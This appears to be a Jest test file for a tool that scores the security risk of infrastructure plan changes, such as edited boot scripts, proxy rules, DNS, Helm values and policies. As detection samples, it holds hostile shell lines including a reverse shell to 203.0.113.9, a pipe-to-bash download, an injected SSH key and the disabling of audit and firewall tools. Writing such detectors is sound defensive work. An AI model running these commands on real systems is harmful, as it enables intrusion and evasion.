import { describe, expect, test } from '@jest/globals';
import { documentParsers } from '../../../../engine/documents/index.ts';
import { analyzePlan, type Change, type JsonValue } from '../../../../engine/index.ts';

/** Analyzes a plan that changes one attribute of one resource. */
function judge(type: string, attribute: string, before: JsonValue, after: JsonValue, actions = ['update']): Change {
  const change = {
    address: `${type}.x`,
    mode: 'managed',
    type,
    name: 'x',
    provider_name: 'registry.terraform.io/example/example',
    change: {
      actions,
      before: { id: '1', [attribute]: before },
      after: { id: '1', [attribute]: after },
      after_unknown: {},
      before_sensitive: {},
      after_sensitive: {},
    },
  };
  const plan = { format_version: '1.2', terraform_version: '1.11.0', resource_changes: [change] };
  return analyzePlan(JSON.stringify(plan), { parsers: () => documentParsers }).changes[0] as Change;
}

const reasons = (change: Change) => change.risk.reasons.map(({ rule_id, level }) => `${rule_id} ${level}`);

const BOOT = '#!/bin/bash\nset -e\napt-get update\nsystemctl enable web\n';

describe('a script', () => {
  test.each([
    ['downloads and runs code', 'curl -fsSL https://get.example.io/i.sh | sudo bash', 'high'],
    ['opens a remote shell', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1', 'critical'],
    ['turns off SELinux', 'setenforce 0', 'high'],
    ['turns off the firewall', 'ufw --force disable', 'high'],
    ['turns off an agent', 'systemctl disable --now auditd', 'high'],
    ['adds a key for logins', 'echo "ssh-ed25519 AAAA" >> /root/.ssh/authorized_keys', 'high'],
    ['runs a privileged container', 'docker run -d --privileged web:3', 'high'],
    ['skips the verification of certificates', 'curl -k https://repo.internal/x -o x', 'medium'],
    ['erases traces', 'unset HISTFILE', 'high'],
  ])('that %s is %s', (_, line, level) => {
    const change = judge('example_server', 'boot_script', BOOT, `${BOOT}${line}\n`);

    expect(change.risk.level).toBe(level);
    expect(reasons(change)).toContain(`R-DOC-ADDED ${level}`);
  });

  test('that installs another package is not raised', () => {
    expect(reasons(judge('example_server', 'boot_script', BOOT, `${BOOT}apt-get install -y jq\n`))).not.toContainEqual(
      expect.stringContaining('R-DOC'),
    );
  });

  test('is judged in base64, too', () => {
    const [before, after] = [BOOT, `${BOOT}setenforce 0\n`].map((text) => Buffer.from(text).toString('base64'));

    expect(reasons(judge('example_server', 'boot', before as string, after as string))).toContain('R-DOC-ADDED high');
  });

  test('with other comments is noise', () => {
    const change = judge('example_server', 'boot_script', BOOT, BOOT.replace('set -e', '# stop at errors\nset -e'));

    expect(change.noise.classification).toBe('likely_benign');
    expect(change.risk.level).toBe('none');
  });
});

describe('a restriction', () => {
  const NGINX = 'location /admin {\n  auth_request /verify;\n  allow 10.0.0.0/8;\n  deny all;\n}\n';

  test('that is removed from a configuration is medium', () => {
    const refusing = NGINX.replace('}', '  if ($bad) { return 403; }\n}');
    const change = judge('example_proxy', 'config', refusing, NGINX);

    expect(reasons(change)).toContain('R-DOC-LOST medium');
  });

  test('that refuses everybody else is high when it is removed', () => {
    const change = judge('example_proxy', 'config', NGINX, NGINX.replace('  deny all;\n', ''));

    expect(reasons(change)).toContain('R-DOC-SETTING high');
  });

  test('that authenticates callers is high when it is removed', () => {
    const change = judge('example_proxy', 'config', NGINX, NGINX.replace('  auth_request /verify;\n', ''));

    expect(reasons(change)).toContain('R-DOC-LOST high');
  });

  test.each([
    ['a query', 'SELECT id FROM orders WHERE tenant_id = current_tenant();', 'SELECT id FROM orders;', 'high'],
    ['another query', "SELECT id FROM orders WHERE state = 'open';", 'SELECT id FROM orders;', 'medium'],
    [
      'a rule of an intrusion detection',
      'drop tcp any any -> any 445\ndrop udp any any -> any 53\n',
      'alert tcp any any -> any 445\ndrop udp any any -> any 53\n',
      'medium',
    ],
    ['a policy in Rego', 'package a\ndeny[msg] { input.x }\n', 'package a\nwarn[msg] { input.x }\n', 'medium'],
    [
      'a policy of an API',
      '<policies><inbound><validate-jwt header-name="A"/><base/></inbound></policies>',
      '<policies><inbound><base/></inbound></policies>',
      'high',
    ],
    [
      'a cache',
      'if (beresp.http.Set-Cookie) {\n  return(pass);\n}\nset beresp.ttl = 60s;\n',
      'set beresp.ttl = 60s;\nset beresp.grace = 30s;\n',
      'high',
    ],
    [
      'a masking expression',
      "CASE WHEN is_admin() THEN val ELSE '***MASKED***' END",
      "CASE WHEN is_admin() THEN val WHEN x THEN '***MASKED***' ELSE val END",
      'high',
    ],
  ])('that an edited line of %s loses is at least medium', (_, before, after, level) => {
    expect(judge('example_thing', 'content', before, after).risk.level).toBe(level);
  });

  test('that only reads differently is not lost', () => {
    const change = judge('example_proxy', 'config', NGINX, NGINX.replace('/verify', '/verify/v2'));

    expect(reasons(change)).not.toContainEqual(expect.stringContaining('R-DOC-LOST'));
  });

  test('that is replaced by access for everyone is high', () => {
    const change = judge('example_proxy', 'config', NGINX, NGINX.replace('deny all;', 'allow all;'));

    expect(change.risk.level).toBe('high');
  });
});

describe('a Kubernetes manifest', () => {
  const manifest = (privileged: boolean) => `apiVersion: apps/v1
kind: Deployment
metadata: { name: agent, namespace: ops }
spec:
  template:
    spec:
      containers:
        - name: agent
          image: agent:1
          securityContext: { privileged: ${privileged} }
`;

  test.each([
    ['in YAML', manifest],
    [
      'in a list of documents',
      (privileged: boolean) => `kind: Namespace\napiVersion: v1\n---\n${manifest(privileged)}`,
    ],
    ['in base64', (privileged: boolean) => Buffer.from(manifest(privileged)).toString('base64')],
    ['in a JSON string', (privileged: boolean) => JSON.stringify({ files: { 'a.yaml': manifest(privileged) } })],
  ])('%s is judged like a resource', (_, write) => {
    const change = judge('example_bundle', 'content', write(false), write(true));

    expect(reasons(change)).toContain('R-CMP-PRIV high');
  });
});

describe('a policy in a document', () => {
  const template = (action: string) =>
    JSON.stringify({
      Resources: {
        Role: {
          Type: 'AWS::IAM::ManagedPolicy',
          Properties: {
            PolicyDocument: { Version: '2012-10-17', Statement: [{ Effect: 'Allow', Action: action, Resource: '*' }] },
          },
        },
      },
    });

  test('that becomes an administrator policy is critical', () => {
    const change = judge('aws_cloudformation_stack', 'template_body', template('s3:ListBucket'), template('*'));

    expect(change.risk.level).toBe('critical');
  });
});

describe('SQL', () => {
  test.each([
    ['GRANT ALL ON SCHEMA app TO PUBLIC', 'high'],
    ['DROP MASKING POLICY email_mask', 'high'],
  ])('%s is %s', (statement, level) => {
    const before = 'GRANT SELECT ON app.orders TO report;\nSELECT 1;';

    expect(judge('example_migration', 'script', before, `${before}\n${statement};`).risk.level).toBe(level);
  });
});

describe('a configuration of name servers', () => {
  const COREFILE = '.:53 {\n  errors\n  forward . /etc/resolv.conf\n  cache 30\n}\n';

  test.each([
    ['forwards to a foreign server', 'forward . /etc/resolv.conf', 'forward . 203.0.113.14', 'high'],
    [
      'answers with another name',
      'cache 30',
      'rewrite name exact pay.example.com pay.example-cdn.net\n  cache 30',
      'high',
    ],
    ['forwards to a private server', 'forward . /etc/resolv.conf', 'forward . 10.0.0.2', 'low'],
    ['answers with a name of the cluster', 'cache 30', 'rewrite name a.example.com a.default.svc.cluster.local', 'low'],
    ['caches longer', 'cache 30', 'cache 60', 'low'],
  ])('that %s', (_, from, to, level) => {
    const change = judge(
      'kubernetes_config_map',
      'data',
      { Corefile: COREFILE },
      { Corefile: COREFILE.replace(from, to) },
    );

    expect(change.risk.level).toBe(level);
  });
});

describe('a setting in a document', () => {
  const values = (enabled: boolean) => `tls:\n  enabled: ${enabled}\nreplicas: 2\n`;

  test.each<[string, string, string, JsonValue, JsonValue]>([
    ['of Helm values', 'helm_release', 'values', [values(true)], [values(false)]],
    [
      'of an add-on',
      'aws_eks_addon',
      'configuration_values',
      '{"enableNetworkPolicy":"true"}',
      '{"enableNetworkPolicy":"false"}',
    ],
    ['of a config map', 'kubernetes_config_map', 'data', { 'app.yaml': values(true) }, { 'app.yaml': values(false) }],
    ['of an environment file', 'example_app', 'env_file', 'REQUIRE_MFA=true\nMODE=a\n', 'REQUIRE_MFA=false\nMODE=a\n'],
    [
      'in a list of names',
      'example_job',
      'containers',
      '[{"name":"a","env":[{"name":"VERIFY_TLS","value":"true"}]}]',
      '[{"name":"a","env":[{"name":"X","value":"1"},{"name":"VERIFY_TLS","value":"false"}]}]',
    ],
    [
      'of a Helm `set` block',
      'helm_release',
      'set',
      [
        { name: 'tls.enabled', value: 'true' },
        { name: 'x', value: '1' },
      ],
      [
        { name: 'x', value: '1' },
        { name: 'tls.enabled', value: 'false' },
      ],
    ],
    [
      'of environment variables',
      'example_function',
      'environment',
      [{ variables: { DISABLE_AUTH: 'false' } }],
      [{ variables: { DISABLE_AUTH: 'true' } }],
    ],
  ])('%s is judged by its name and value', (_, type, attribute, before, after) => {
    const change = judge(type, attribute, before, after);

    expect(reasons(change)).toContain('R-DOC-SETTING high');
  });

  test.each<[string, JsonValue, JsonValue]>([
    ['replicas', [values(true)], [values(true).replace('2', '3')]],
    ['comments and order', [values(true)], ['# sorted\nreplicas: 2\ntls: { enabled: true }\n']],
  ])('is not raised when only %s change', (_, before, after) => {
    const change = judge('helm_release', 'values', before, after);

    expect(reasons(change)).not.toContainEqual(expect.stringContaining('R-DOC'));
  });

  test('that changes in a reformatted document is judged by its value', () => {
    const change = judge(
      'helm_release',
      'values',
      [values(true)],
      ['# sorted\nreplicas: 2\ntls: { enabled: false }\n'],
    );

    expect(change.noise.classification).toBe('novel');
    expect(reasons(change)).toContain('R-DOC-SETTING high');
  });

  test('that is secret is withheld', () => {
    const [before, after] = ['https://a:hunter2@db.example.com/x', 'https://a:hunter3@db.other.net/x'].map(
      (url) => `DB_PASSWORD=x1\nSECRET_URL=${url}\n`,
    );
    const found = judge('example_app', 'env_file', before as string, after as string).risk.reasons;

    expect(found.map(({ rule_id }) => rule_id)).toContain('R-DOC-SETTING');
    expect(JSON.stringify(found)).not.toContain('hunter');
  });
});

describe('a versioned resource', () => {
  const define = (url: string) =>
    JSON.stringify([{ name: 'web', image: 'web:1', environment: [{ name: 'PAY_URL', value: url }] }]);

  test('is judged by its documents although it is replaced', () => {
    const change = judge(
      'aws_ecs_task_definition',
      'container_definitions',
      define('https://live.examplepayments.com'),
      define('https://live.examplepayment-relay.io'),
      ['create', 'delete'],
    );

    expect(change.risk.level).toBe('high');
  });
});

describe('a filter of events', () => {
  const pattern = (source: string, bound: number) =>
    JSON.stringify({ source: [source], detail: { severity: [{ numeric: ['>=', bound] }] } });

  test.each([
    ['that excludes all findings is high', pattern('aws.guardduty', 4), pattern('aws.guardduty', 40), 'high'],
    ['that excludes more findings is medium', pattern('aws.guardduty', 4), pattern('aws.guardduty', 7), 'medium'],
    ['that matches more is low', pattern('aws.guardduty', 4), pattern('aws.guardduty', 2), 'low'],
    ['that loses a value is medium', '{"severity":["high","critical"]}', '{"severity":["critical"]}', 'medium'],
    ['that gets a value is low', '{"severity":["critical"]}', '{"severity":["high","critical"]}', 'low'],
  ])('%s', (_, before, after, level) => {
    expect(judge('aws_cloudwatch_event_rule', 'event_pattern', before, after).risk.level).toBe(level);
  });

  test.each([
    ['severity>=DEFAULT', 'high'],
    ['(severity >= 0)', 'high'],
    ['logName:*', 'high'],
    ['true', 'high'],
    ['*', 'high'],
  ])('that leaves out everything by %s is %s', (filter, level) => {
    const [before, after] = ['severity=DEBUG AND resource.type="x"', filter].map((text) => [
      { name: 'a', filter: text },
    ]);

    expect(judge('google_logging_project_sink', 'exclusions', before as JsonValue, after as JsonValue).risk.level).toBe(
      level,
    );
  });
});

describe('an API description', () => {
  const describeApi = (security: string) =>
    `{"openapi":"3.0.1","paths":{"/orders":{"get":{"summary":"a"${security}}}}}`;

  test.each([
    ['that loses its security is high', ',"security":[{"key":[]}]', '', 'R-DOC-SETTING high'],
    ['with an empty security is high', ',"security":[{"key":[]}]', ',"security":[]', 'R-DOC-SETTING high'],
  ])('%s', (_, before, after, reason) => {
    expect(reasons(judge('aws_api_gateway_rest_api', 'body', describeApi(before), describeApi(after)))).toContain(
      reason,
    );
  });

  test('with another kind of security is not raised', () => {
    const change = judge(
      'aws_api_gateway_rest_api',
      'body',
      describeApi(',"security":[{"key":[]}]'),
      describeApi(',"security":[{"oauth":[]}]'),
    );

    expect(reasons(change)).not.toContainEqual(expect.stringContaining('R-DOC-SETTING'));
  });
});

describe('a custom resource', () => {
  const manifest = (kind: string, spec: JsonValue): JsonValue => ({
    apiVersion: 'example.io/v1',
    kind,
    metadata: { name: 'a' },
    spec,
  });

  test.each<[string, JsonValue, JsonValue]>([
    ['ClusterPolicy', { validationFailureAction: 'Enforce' }, { validationFailureAction: 'Audit' }],
    ['K8sRequiredLabels', { enforcementAction: 'deny' }, { enforcementAction: 'dryrun' }],
    ['PeerAuthentication', { mtls: { mode: 'STRICT' } }, { mtls: { mode: 'DISABLE' } }],
    ['DestinationRule', { tls: { insecureSkipVerify: false } }, { tls: { insecureSkipVerify: true } }],
    [
      'Application',
      { source: { repoURL: 'https://github.com/acme-shop/a' } },
      { source: { repoURL: 'https://github.com/acrne-shop/a' } },
    ],
  ])('%s that becomes weaker is high', (kind, before, after) => {
    expect(judge('kubernetes_manifest', 'manifest', manifest(kind, before), manifest(kind, after)).risk.level).toBe(
      'high',
    );
  });

  test('with another interval is not raised', () => {
    const change = judge(
      'kubernetes_manifest',
      'manifest',
      manifest('ExternalSecret', { refreshInterval: '1h' }),
      manifest('ExternalSecret', { refreshInterval: '2h' }),
    );

    expect(change.risk.level).toBe('low');
  });
});
